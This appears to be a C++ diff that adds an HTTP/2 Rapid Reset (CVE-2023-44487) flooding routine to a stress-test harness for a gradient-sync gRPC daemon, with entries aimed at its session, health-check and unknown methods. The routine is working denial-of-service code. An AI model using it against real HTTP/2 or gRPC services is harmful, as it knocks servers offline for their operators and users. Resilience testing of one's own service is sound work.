@@ -176,6 +176,29 @@ void StatusFlood(const Target& target) {
   for (std::thread& thread : threads) thread.join();
 }
 
+// Opens calls and resets them at once, as fast as it can, on eight connections (CVE-2023-44487).
+// Connects again when the daemon has ended one.
+void RapidReset(const Target& target, const std::string& method) {
+  constexpr int kConnections = 8;
+  std::atomic<int> running{0};
+  std::vector<std::thread> threads;
+  for (int i = 0; i < kConnections; ++i) {
+    threads.emplace_back([&] {
+      auto connection = std::make_unique<RawHttp2>(target.socket, 65535);
+      for (bool first = true; !stopping; first = false) {
+        if (!connection->connected()) {
+          std::this_thread::sleep_for(std::chrono::milliseconds(1));  // the pace of the attack
+          connection = std::make_unique<RawHttp2>(target.socket, 65535);
+        }
+        connection->OpenAndReset(method, 100);
+        if (first && ++running == kConnections) Ready();
+      }
+    });
+  }
+  AwaitStop();
+  _exit(0);  // a connection may wait for the daemon
+}
+
 // ---- Work
 
 // Jobs of `world` ranks each that step without a pause.
@@ -245,6 +268,10 @@ const std::map<std::string, std::function<void(const Target&)>>& Attacks() {
       {"zero_window", ZeroWindow},
       {"connections", Connections},
       {"status_flood", StatusFlood},
+      {"reset_sessions",
+       [](const Target& t) { RapidReset(t, "/gradsync.v1.GradientSync/Session"); }},
+      {"reset_questions", [](const Target& t) { RapidReset(t, "/grpc.health.v1.Health/Check"); }},
+      {"reset_unknown", [](const Target& t) { RapidReset(t, "/gradsync.v1.Nothing/Nothing"); }},
       // Many small buckets: each alone would be reduced on the thread that reads the message.
       {"inline_reductions", [](const Target& t) { Steps(t, 2, 1, 4096, 64 << 10); }},
       // Much to tell and little to reduce.
